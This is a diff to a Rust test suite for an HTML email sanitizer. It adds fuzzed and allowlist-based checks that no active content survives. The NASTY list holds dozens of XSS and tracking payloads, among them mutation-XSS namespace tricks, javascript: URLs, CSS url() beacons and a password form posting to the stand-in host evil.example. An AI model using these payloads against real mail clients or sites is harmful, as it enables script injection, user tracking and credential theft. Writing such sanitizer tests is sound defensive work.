@@ -12,138 +12,158 @@ fn html_message(html: &str) -> Vec<u8> {
 /// Nothing that runs, fetches, submits or leaves, in whatever disguise.
 #[test]
 fn nothing_active_comes_through() {
-    let nasty = [
-        "<script>alert(1)</script>",
-        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-        "<img src=x onerror=alert(1)>",
-        "<img src=\"x\" ONERROR=\"alert(1)\">",
-        "<svg onload=alert(1)><script>alert(1)</script></svg>",
-        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
-        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
-        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-        "<a href=\"javascript:alert(1)\">x</a>",
-        "<a href=\"java\nscript:alert(1)\">x</a>",
-        "<a href=\"&#1;javascript:alert(1)\">x</a>",
-        "<a href=\"vbscript:x\">x</a>",
-        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
-        "<a href=\"//evil.example/\">x</a>",
-        "<a href=\"/webmail/sign-out\">x</a>",
-        "<a href=\"#\" onclick=\"alert(1)\">x</a>",
-        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
-        "<img src=\"javascript:alert(1)\">",
-        "<img srcset=\"https://evil.example/t.gif 1x\">",
-        "<picture><source srcset=\"https://evil.example/t.gif\"><img src=https://evil.example/t.gif></picture>",
-        "<img src=\"https://evil.example/t.gif?id=1\" width=1 height=1>",
-        "<input type=image src=https://evil.example/t.gif>",
-        "<body background=https://evil.example/t.gif>",
-        "<table background=https://evil.example/t.gif><tr><td background=https://evil.example/t.gif>x",
-        "<link rel=stylesheet href=https://evil.example/x.css>",
-        "<link rel=dns-prefetch href=//evil.example>",
-        "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t.gif)}</style>",
-        "<div style=\"background:url(https://evil.example/t.gif)\">x</div>",
-        "<div style=\"background:u\\72l(https://evil.example/t.gif)\">x</div>",
-        "<div style=\"background:URL('https://evil.example/t.gif')\">x</div>",
-        "<div style=\"background-image:image-set('https://evil.example/t.gif' 1x)\">x</div>",
-        "<div style=\"color:red;/*;*/background:url(https://evil.example/t.gif)\">x</div>",
-        "<div style='font-family:\"a;background:url(https://evil.example/t.gif)\"'>x</div>",
-        "<div style=\"width:expression(alert(1))\">x</div>",
-        "<div style=\"behavior:url(#default#time2)\">x</div>",
-        "<div style=\"-moz-binding:url(https://evil.example/x.xml#a)\">x</div>",
-        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
-        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
-        "<base href=https://evil.example/><a href=x>x</a>",
-        "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
-        "<button formaction=javascript:alert(1)>x</button>",
-        "<iframe src=https://evil.example/></iframe>",
-        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-        "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
-        "<video poster=https://evil.example/t.gif src=https://evil.example/v.mp4 autoplay></video>",
-        "<audio src=https://evil.example/a.mp3 autoplay></audio>",
-        "<template><script>alert(1)</script></template>",
-        "<textarea><img src=x onerror=alert(1)></textarea>",
-        "<xmp><img src=x onerror=alert(1)></xmp>",
-        "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
-        "<!--><img src=x onerror=alert(1)>-->",
-        "<![CDATA[<img src=x onerror=alert(1)>]]>",
-        "</body></html><script>alert(1)</script>",
-        "<a target=_self href=https://ok.example/ rel=opener>x</a>",
-        "<p id=csrf class=button name=x>x</p>",
-    ];
-    let forbidden = [
-        "<script",
-        "onerror=",
-        "onload=",
-        "onclick=",
-        "onbegin=",
-        "javascript:",
-        "vbscript:",
-        "evil.example",
-        "url(",
-        "expression(",
-        "<svg",
-        "<math",
-        "<style><",
-        "<iframe",
-        "<object",
-        "<embed",
-        "<form",
-        "<input",
-        "<button",
-        "<meta http-equiv",
-        "<base",
-        "<link",
-        "<video",
-        "<audio",
-        "srcset",
-        "background=",
-        "position:",
-        "behavior:",
-        "binding:",
-        "data:text",
-        "data:image/svg",
-        "/webmail/",
-        "_self",
-        "\"opener",
-        " id=",
-        " class=",
-        "<template",
-        "<textarea",
-        "<xmp",
-        "<!--",
-        "@import",
-    ];
-    for html in nasty {
-        let document = document(&html_message(html), RemoteImages::Blocked).unwrap();
-        let body = document.markup.split_once("<body>").unwrap().1;
-        // Text that names a tag is only text.
-        let tags: String = tags_of(body).to_ascii_lowercase();
-        for trace in forbidden {
-            assert!(!tags.contains(trace), "{trace} came through: {html}\n{body}");
+    NASTY.iter().for_each(|html| assert_harmless(html));
+}
+
+/// Pieces that are harmless alone may close or open each other's quotes, comments and namespaces.
+#[test]
+fn nothing_active_comes_through_in_company_either() {
+    let mut draw = draws(1);
+    for _ in 0..1_500 {
+        let pieces = (0..2 + draw(4)).map(|_| {
+            let piece = NASTY[draw(NASTY.len())];
+            let cut = piece.floor_char_boundary(draw(piece.len() + 1));
+            if draw(2) == 0 { piece } else { &piece[..cut] }
+        });
+        assert_harmless(&pieces.collect::<String>());
+    }
+}
+
+#[test]
+fn no_mutilated_message_makes_it_panic() {
+    let mut draw = draws(2);
+    for _ in 0..1_500 {
+        let mut message = RELATED.as_bytes().to_vec();
+        for _ in 0..1 + draw(8) {
+            let (at, to) = (draw(message.len()), draw(message.len()));
+            match draw(4) {
+                0 => message[at] = u8::try_from(draw(256)).unwrap(),
+                1 => message.truncate(at.max(1)),
+                2 => message.insert(at, b"\r\n=-;:\"<>\0\xff"[draw(11)]),
+                _ => message.extend_from_within(at.min(to)..at.max(to)),
+            }
+        }
+        let letter = Letter::read(&message);
+        let _ = document(&message, RemoteImages::Shown);
+        for attachment in &letter.attachments {
+            assert!(download(&message, attachment.number).is_some());
         }
     }
 }
 
-/// The markup without the text between its tags, attribute values kept.
-fn tags_of(markup: &str) -> String {
-    let (mut tags, mut inside, mut quoted) = (String::new(), false, false);
-    for character in markup.chars() {
-        match character {
-            '<' if !inside => inside = true,
-            '"' if inside => quoted = !quoted,
-            '>' if inside && !quoted => {
-                inside = false;
-                tags.push('>');
-            }
-            _ => {}
-        }
-        if inside {
-            tags.push(character);
+/// Draws that are the same at every run (Knuth's MMIX generator, its high bits).
+fn draws(seed: u64) -> impl FnMut(usize) -> usize {
+    let mut state = seed;
+    move |below| {
+        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        usize::try_from(state >> 33).unwrap() % below.max(1)
+    }
+}
+
+/// Reads the finished markup again, by the letter, and lets nothing pass but what a message may have.
+fn assert_harmless(html: &str) {
+    let document = document(&html_message(html), RemoteImages::Blocked).unwrap();
+    let body = document.markup.split_once("<body>").unwrap().1.strip_suffix("</body></html>").unwrap();
+    for tag in body.split('<').skip(1).filter(|tag| !tag.starts_with('/')) {
+        let (tag, _) = tag.split_once('>').unwrap();
+        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
+        assert!(MAY_STAND.contains(&name), "<{name}> came through: {html}\n{body}");
+        while !rest.is_empty() {
+            let (attribute, value) = rest.trim_start().split_once("=\"").unwrap();
+            let (value, after) = value.split_once('"').unwrap();
+            assert!(may_say(attribute, value), "{attribute}={value} came through: {html}\n{body}");
+            rest = after;
         }
     }
-    tags
 }
+
+fn may_say(attribute: &str, value: &str) -> bool {
+    let value = value.to_ascii_lowercase();
+    match attribute {
+        "href" => ["http://", "https://", "mailto:", "tel:"].iter().any(|scheme| value.starts_with(scheme)),
+        "src" => value.starts_with("data:image/") && !value.contains("svg"),
+        "style" => ![
+            "url",
+            "expression",
+            "position",
+            "behavior",
+            "binding",
+            "import",
+            "\\",
+            "image-set",
+            "evil.example",
+        ]
+        .iter()
+        .any(|trace| value.contains(trace)),
+        "target" => value == "_blank",
+        "rel" => value == "noopener noreferrer nofollow",
+        "title" | "alt" | "align" | "width" | "height" => true,
+        _ => false,
+    }
+}
+
+/// The elements that are left of the messages below.
+const MAY_STAND: [&str; 10] = ["a", "div", "img", "p", "table", "tbody", "tr", "td", "span", "br"];
+
+const NASTY: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=\"x\" ONERROR=\"alert(1)\">",
+    "<svg onload=alert(1)><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"java\nscript:alert(1)\">x</a>",
+    "<a href=\"&#1;javascript:alert(1)\">x</a>",
+    "<a href=\"vbscript:x\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"//evil.example/\">x</a>",
+    "<a href=\"/webmail/sign-out\">x</a>",
+    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
+    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+    "<img src=\"javascript:alert(1)\">",
+    "<img srcset=\"https://evil.example/t.gif 1x\">",
+    "<picture><source srcset=\"https://evil.example/t.gif\"><img src=https://evil.example/t.gif></picture>",
+    "<img src=\"https://evil.example/t.gif?id=1\" width=1 height=1>",
+    "<input type=image src=https://evil.example/t.gif>",
+    "<body background=https://evil.example/t.gif>",
+    "<table background=https://evil.example/t.gif><tr><td background=https://evil.example/t.gif>x",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<link rel=dns-prefetch href=//evil.example>",
+    "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t.gif)}</style>",
+    "<div style=\"background:url(https://evil.example/t.gif)\">x</div>",
+    "<div style=\"background:u\\72l(https://evil.example/t.gif)\">x</div>",
+    "<div style=\"background:URL('https://evil.example/t.gif')\">x</div>",
+    "<div style=\"background-image:image-set('https://evil.example/t.gif' 1x)\">x</div>",
+    "<div style=\"color:red;/*;*/background:url(https://evil.example/t.gif)\">x</div>",
+    "<div style='font-family:\"a;background:url(https://evil.example/t.gif)\"'>x</div>",
+    "<div style=\"width:expression(alert(1))\">x</div>",
+    "<div style=\"behavior:url(#default#time2)\">x</div>",
+    "<div style=\"-moz-binding:url(https://evil.example/x.xml#a)\">x</div>",
+    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
+    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
+    "<base href=https://evil.example/><a href=x>x</a>",
+    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<iframe src=https://evil.example/></iframe>",
+    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+    "<object data=https://evil.example/x.swf></object><embed src=https://evil.example/x.swf>",
+    "<video poster=https://evil.example/t.gif src=https://evil.example/v.mp4 autoplay></video>",
+    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
+    "<template><script>alert(1)</script></template>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "</body></html><script>alert(1)</script>",
+    "<a target=_self href=https://ok.example/ rel=opener>x</a>",
+    "<p id=csrf class=button name=x>x</p>",
+];
 
 #[test]
 fn an_ordinary_newsletter_keeps_its_looks() {
